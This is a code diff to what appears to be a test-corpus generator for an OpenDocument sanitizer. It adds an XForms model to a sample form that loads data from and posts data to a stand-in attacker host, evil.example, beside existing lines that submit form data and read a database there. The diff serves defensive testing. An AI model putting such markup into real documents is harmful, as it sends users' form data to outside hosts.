@@ -155,7 +155,9 @@ void objects(corpus::Writer& writer) {
              "a Java applet, a Flash plugin and a floating frame");
 
   const std::string form =
-      "<office:forms><form:form form:name=\"Form\" xlink:href=\"https://evil.example/collect\" "
+      "<office:forms><xforms:model><xforms:instance src=\"https://evil.example/data.xml\"/>"
+      "<xforms:submission id=\"send\" action=\"https://evil.example/post\" method=\"post\"/>"
+      "</xforms:model><form:form form:name=\"Form\" xlink:href=\"https://evil.example/collect\" "
       "form:method=\"post\" form:datasource=\"sdbc:mysql://evil.example/db\" "
       "form:command=\"SELECT * FROM t\"><form:button form:id=\"control1\" form:name=\"Push\" "
       "form:label=\"押す Push\" form:image-data=\"https://tracker.example/button.png\">"
@@ -172,8 +174,8 @@ void objects(corpus::Writer& writer) {
           .build(),
       sanitized({"odf.form_event", "odf.form_submit", "odf.data_source", "odf.remote_resource"},
                 kFidelityChecks),
-      "a form that posts to a URL and reads a database, with a button that runs a macro and "
-      "shows a remote picture");
+      "a form that posts to a URL and reads a database, an XForms model that loads and posts "
+      "its data remotely, a button that runs a macro and shows a remote picture");
 }
 
 void external(corpus::Writer& writer) {
